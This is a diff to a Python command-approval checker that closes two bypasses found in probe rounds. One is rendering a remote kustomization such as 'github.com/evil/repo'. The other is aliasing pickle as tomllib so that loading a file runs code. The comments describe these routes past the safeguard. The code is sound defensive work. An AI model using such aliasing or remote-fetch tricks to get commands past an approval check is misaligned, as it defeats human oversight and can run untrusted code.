@@ -3958,6 +3958,16 @@ def _project_relative(path: str) -> bool:
     return bool(path) and not path.startswith(("/", "~", "$", "-")) and ".." not in path.split("/")
 
 
+def _kustomize_local(path: str) -> bool:
+    """(probe round 36, loosen36) a kustomization directory of the project, not a remote
+    one: kustomize takes a path that is no local directory for a repository to clone
+    (github.com/x/y, git@host:x/y, gh:x/y, a ?ref= query), so kubectl kustomize
+    github.com/evil/repo and apply -k of it rendered a stranger's repository with the
+    build's trust, where kustomize build of it is asked (_KUSTOMIZE_REMOTE)"""
+    return _project_relative(path) and _KUSTOMIZE_REMOTE.match(path) is None \
+        and not any(c in path for c in ":?@")
+
+
 def _kubectl_render(args: Sequence[str], build: bool = False) -> bool:
     """``build``: kustomize and -k/--kustomize render the project's kustomization (its remote
     resources fetched, its generators run): the build's trust, as kustomize build has."""
@@ -3969,7 +3979,7 @@ def _kubectl_render(args: Sequence[str], build: bool = False) -> bool:
         return [a for a in rest if a.startswith("--dry-run")] == ["--dry-run=client"] and _kubectl_generated(rest)
     if verb == "kustomize":
         return all(not a.startswith("-") for a in rest) and len(rest) <= 1 and not any("://" in a for a in rest) \
-            and all(_project_relative(a) for a in rest)
+            and all(_kustomize_local(a) for a in rest)
     dry = [a for a in rest if a.startswith("--dry-run")]
     if verb in ("apply", "create"):
         if dry not in (["--dry-run=client"], ["--dry-run=server"]):
@@ -3985,7 +3995,8 @@ def _kubectl_render(args: Sequence[str], build: bool = False) -> bool:
                 i += 1
                 value = rest[i] if i < len(rest) else ""
             if name in ("-f", "--filename", "-k", "--kustomize"):
-                if "://" in value or not _project_relative(value):
+                if "://" in value or not _project_relative(value) \
+                        or (name in ("-k", "--kustomize") and not _kustomize_local(value)):
                     return False
                 given = True
             if name in ("-o", "--output") and value not in ("yaml", "json", "name", "wide"):
@@ -6755,7 +6766,12 @@ _PY_PRINT = re.compile(r"print\s*\((.*)\)")
 _PROBE_VALUE = re.compile(rf"({_PY_DOTTED})(\(\s*\))?")
 # names the grammar reads as Python's own: bound to something else (from os import remove as
 # open, import pickle as json: its load runs what the file holds), the probe is another call
-_PY_GRAMMAR_NAMES = frozenset({"print", "open", "json"})
+# (probe round 36, loosen36: tomllib and tomli too, the -c grammar's TOML read; import
+# pickle as tomllib made tomllib.load(open("x.toml", "rb")) unpickle, code run from a file)
+_PY_GRAMMAR_NAMES = frozenset({"print", "open", "json", "tomllib", "tomli"})
+# a module bound to a name the grammar reads as its kin (import simplejson as json, import
+# tomli as tomllib: the backport under the standard name)
+_PY_GRAMMAR_KIN = frozenset({("simplejson", "json"), ("tomli", "tomllib"), ("tomllib", "tomli")})
 _PY_UNSHADOWED = frozenset({"sys"})   # built into the interpreter: no file on the path can stand in for it
 _NODE_GLOBAL = re.compile(r"process\.(?:version|versions|platform|arch|release|features|config)(?:\.[A-Za-z_]\w*)*")
 # (a package's name, or a path inside the project: ./lib/x; never /tmp/x, ~ or ..)
@@ -6828,7 +6844,7 @@ def _python_probe(code: str) -> int:
             for item in m.group(1).split(","):
                 mod, _, alias = (x.strip() for x in item.partition(" as "))
                 if _PY_ACTING_MODULE.search(mod) or (alias in _PY_GRAMMAR_NAMES and alias != mod
-                                                     and (mod, alias) != ("simplejson", "json")):
+                                                     and (mod, alias) not in _PY_GRAMMAR_KIN):
                     return 0
                 imported.add(mod.split(".")[0])
                 bound.add(alias or mod.split(".")[0])
